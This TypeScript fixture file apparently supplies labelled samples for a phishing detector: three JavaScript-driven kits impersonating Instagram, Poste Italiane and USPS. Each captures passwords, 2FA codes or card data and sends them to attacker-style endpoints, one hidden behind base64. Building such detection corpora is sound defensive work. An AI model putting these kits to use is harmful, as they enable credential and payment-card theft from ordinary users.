import type { Entry } from '../entry.js';
import type { Route } from '../../corpus/corpus.js';

// Credential kits whose form only exists after their bundle runs. Hand-written, JS-heavy.
const raw = String.raw;
const js = (body: string): Route => ({ status: 200, headers: { 'content-type': 'application/javascript; charset=utf-8' }, body });
const css = (body: string): Route => ({ status: 200, headers: { 'content-type': 'text/css; charset=utf-8' }, body });
const json = (v: unknown): Route => ({ status: 200, headers: { 'content-type': 'application/json', 'access-control-allow-origin': '*' }, body: JSON.stringify(v) });

export const entries: Entry[] = [
  {
    id: 'c-spa-instagram-appeal',
    label: 'phishing',
    kind: 'spa-kit',
    url: 'https://meta-copyright-appeal-center.com/case/IG-20398471',
    body: raw`<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Meta | Help Center</title>
<style>
body{margin:0;font-family:-apple-system,BlinkMacSystemFont,"Segoe UI",Roboto,Helvetica,Arial,sans-serif;background:#f0f2f5;color:#1c1e21}
nav{background:#fff;height:56px;display:flex;align-items:center;padding:0 16px;box-shadow:0 1px 2px #0002;font-weight:700;color:#0866ff;font-size:22px}
.c{max-width:600px;margin:24px auto;background:#fff;border-radius:8px;padding:20px 24px;box-shadow:0 1px 2px #0002}
.b{background:#0866ff;color:#fff;border:0;border-radius:6px;padding:10px 16px;font-weight:600;font-size:15px;cursor:pointer;width:100%}
input,textarea{width:100%;padding:12px;border:1px solid #ccd0d5;border-radius:6px;margin:6px 0 12px;font-size:15px;box-sizing:border-box}
.red{color:#e41e3f;font-weight:600}
.modal{position:fixed;inset:0;background:#0008;display:flex;align-items:center;justify-content:center}
.modal .c{width:380px}
</style>
</head>
<body>
<nav>&#9679; Meta</nav>
<div id="page"></div>
<script>
const caseId = location.pathname.split('/').pop();
const page = document.getElementById('page');
const info = {};
const endpoint = 'https://submit-form-appeal.netlify.app/.netlify/functions/store';
page.innerHTML = '<div class="c"><h2>Copyright Infringement Notice</h2><p>Case <b>' + caseId + '</b></p><p>We have received a complaint that content on your Instagram account infringes copyright. <span class="red">If you do not submit an appeal within 24 hours, your account will be permanently disabled.</span></p><p>If you think this decision is wrong, you can request a review below.</p><label>Instagram username</label><input id="user"><label>Full name</label><input id="name"><label>Email address</label><input id="mail"><label>Phone number</label><input id="phone"><label>Tell us why</label><textarea id="why" rows="3"></textarea><button class="b" id="sub">Submit appeal</button></div>';
document.getElementById('sub').addEventListener('click', () => {
  for (const k of ['user', 'name', 'mail', 'phone', 'why']) info[k] = document.getElementById(k).value;
  if (!info.user) return;
  const m = document.createElement('div');
  m.className = 'modal';
  m.innerHTML = '<div class="c"><h3>Please enter your password</h3><p style="font-size:14px;color:#65676b">For your security, you need to re-enter your password to continue.</p><input id="pw" type="password" placeholder="Password"><button class="b" id="ok">Continue</button><p id="e" class="red" style="font-size:13px"></p></div>';
  document.body.appendChild(m);
  let n = 0;
  document.getElementById('ok').addEventListener('click', async () => {
    const pw = document.getElementById('pw').value;
    if (!pw) return;
    n += 1;
    await fetch(endpoint, { method: 'POST', body: JSON.stringify({ ...info, ['pass' + n]: pw, caseId }) }).catch(() => null);
    if (n === 1) { document.getElementById('e').textContent = 'The password you entered is incorrect.'; document.getElementById('pw').value = ''; return; }
    m.querySelector('.c').innerHTML = '<h3>Two-factor authentication</h3><p style="font-size:14px">Enter the 6-digit code we sent to your phone or from your authentication app.</p><input id="tfa" maxlength="8"><button class="b" id="ok2">Send</button>';
    document.getElementById('ok2').onclick = async () => { await fetch(endpoint, { method: 'POST', body: JSON.stringify({ user: info.user, code: document.getElementById('tfa').value }) }).catch(() => null); location.href = 'https://help.instagram.com/'; };
  });
});
</script>
</body>
</html>`,
  },
  {
    id: 'c-spa-poste-it',
    label: 'phishing',
    kind: 'spa-kit',
    url: 'https://posteid-verifica.web.app/',
    body: raw`<!doctype html><html lang="it"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Poste Italiane</title><base href="/"><link rel="stylesheet" href="styles.8c1e.css"></head><body><app-root></app-root><script src="runtime.a1b2.js" type="module"></script><script src="main.77fe.js" type="module"></script></body></html>`,
    routes: {
      'posteid-verifica.web.app/styles.8c1e.css': css(raw`body{margin:0;font-family:"Titillium Web",Arial,sans-serif;background:#fff}header{background:#ffd900;padding:16px 24px;font-weight:700;color:#0047bb;font-size:22px}.ct{max-width:420px;margin:30px auto;padding:0 16px}.ct input{width:100%;padding:12px;border:1px solid #8b9bb3;border-radius:4px;margin:8px 0 14px;box-sizing:border-box;font-size:16px}.ct button{width:100%;background:#0047bb;color:#fff;border:0;border-radius:4px;padding:13px;font-size:16px;font-weight:600}.alert{background:#fff4d0;border-left:5px solid #ffd900;padding:12px;font-size:14px}`),
      'posteid-verifica.web.app/runtime.a1b2.js': js(raw`export const env={production:true,api:"https://fb-posteid-sync.firebaseio-eu.app/records.json",home:"https://www.poste.it/"};`),
      'posteid-verifica.web.app/main.77fe.js': js(raw`import{env}from"./runtime.a1b2.js";
class AppRoot extends HTMLElement{
  connectedCallback(){this.rec={};this.step=0;this.render()}
  views(){return[
    ['Accedi con PosteID','<div class="alert">Il tuo conto BancoPosta risulta sospeso per mancato aggiornamento dei dati di sicurezza.</div><input name="user" placeholder="Nome utente (email)"><input name="pass" type="password" placeholder="Password">','Accedi'],
    ['Verifica identità','<p>Inserisci i dati della carta Postepay o della carta di debito BancoPosta associata.</p><input name="pan" placeholder="Numero carta"><input name="scad" placeholder="Scadenza MM/AA"><input name="cvv" placeholder="CVV">','Verifica'],
    ['Codice di conferma','<p>Abbiamo inviato un codice SMS al numero associato al tuo conto.</p><input name="otp" placeholder="Codice SMS"><input name="posteid" type="password" placeholder="Codice PosteID">','Conferma']]}
  render(){const[v,b,l]=this.views()[this.step];document.title=v+' | Poste Italiane';this.innerHTML='<header>Poste Italiane</header><div class="ct"><h2>'+v+'</h2>'+b+'<button>'+l+'</button></div>';this.querySelector('button').onclick=()=>this.next()}
  async next(){this.querySelectorAll('input').forEach(i=>this.rec[i.name]=i.value);await fetch(env.api,{method:'POST',body:JSON.stringify({...this.rec,s:this.step,at:Date.now()})}).catch(()=>0);if(++this.step<3)this.render();else location.replace(env.home)}
}
customElements.define('app-root',AppRoot);`),
      'fb-posteid-sync.firebaseio-eu.app/records.json': json({ name: '-Nx81k' }),
    },
  },
  {
    id: 'c-spa-usps-redeliver',
    label: 'phishing',
    kind: 'spa-kit',
    url: 'https://usps.redelivery-schedule-us.com/?tn=US9514901185421',
    body: raw`<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>USPS.com® - USPS Tracking® Results</title>
<style>body{margin:0;font-family:"Helvetica Neue",Helvetica,Arial,sans-serif;color:#333}.bar{background:#333366;color:#fff;padding:12px 20px;font-weight:bold;letter-spacing:.08em}.in{max-width:640px;margin:20px auto;padding:0 16px}.st{border:1px solid #ddd;padding:16px;margin:16px 0}.st h3{color:#e71921;margin:0 0 6px}input{width:100%;padding:10px;margin:4px 0 12px;border:1px solid #999;box-sizing:border-box}.btn{background:#333366;color:#fff;border:0;padding:12px 22px;font-size:15px;cursor:pointer}.prog{height:8px;background:#eee;margin:10px 0}.prog i{display:block;height:8px;width:70%;background:#333366}</style></head>
<body><div class="bar">USPS TRACKING</div><div class="in" id="m"></div>
<script>
(function(){
  var tn=new URLSearchParams(location.search).get('tn')||'US9514901185421';
  var m=document.getElementById('m');
  var k='aHR0cHM6Ly91c3BzLWNvbGxlY3Qtc3J2LmNvbS9pbmRleC5waHA/YT0=';
  function up(a,o){var f=document.createElement('form');var i=new Image();i.src=atob(k)+a+'&d='+btoa(unescape(encodeURIComponent(JSON.stringify(o))));}
  m.innerHTML='<p>Tracking Number: <b>'+tn+'</b></p><div class="prog"><i></i></div><div class="st"><h3>Status: Delivery Attempt Failed</h3><p>Your package could not be delivered due to an incomplete address. Please confirm your address within 12 hours, otherwise the package will be returned to the sender. A redelivery fee of $0.30 applies.</p></div><button class="btn" id="go">Schedule Redelivery</button>';
  document.getElementById('go').onclick=function(){
    m.innerHTML='<h3>Confirm delivery address</h3><input id="fn" placeholder="Full Name"><input id="a1" placeholder="Address Line"><input id="ci" placeholder="City"><input id="zi" placeholder="ZIP"><input id="em" placeholder="Email"><input id="ph" placeholder="Phone"><button class="btn" id="n1">Continue</button>';
    document.getElementById('n1').onclick=function(){
      var a={fn:fn.value,a1:a1.value,ci:ci.value,zi:zi.value,em:em.value,ph:ph.value};up('addr',a);
      m.innerHTML='<h3>Redelivery fee: $0.30</h3><input id="cc" placeholder="Card Number"><input id="ex" placeholder="MM/YY"><input id="cv" placeholder="CVV"><button class="btn" id="n2">Pay</button>';
      document.getElementById('n2').onclick=function(){up('card',{tn:tn,cc:cc.value,ex:ex.value,cv:cv.value});m.innerHTML='<h3>Processing…</h3>';setTimeout(function(){location.href='https://tools.usps.com/go/TrackConfirmAction?tLabels='+tn},3000)};
    };
  };
})();
</script></body></html>`,
  },
];
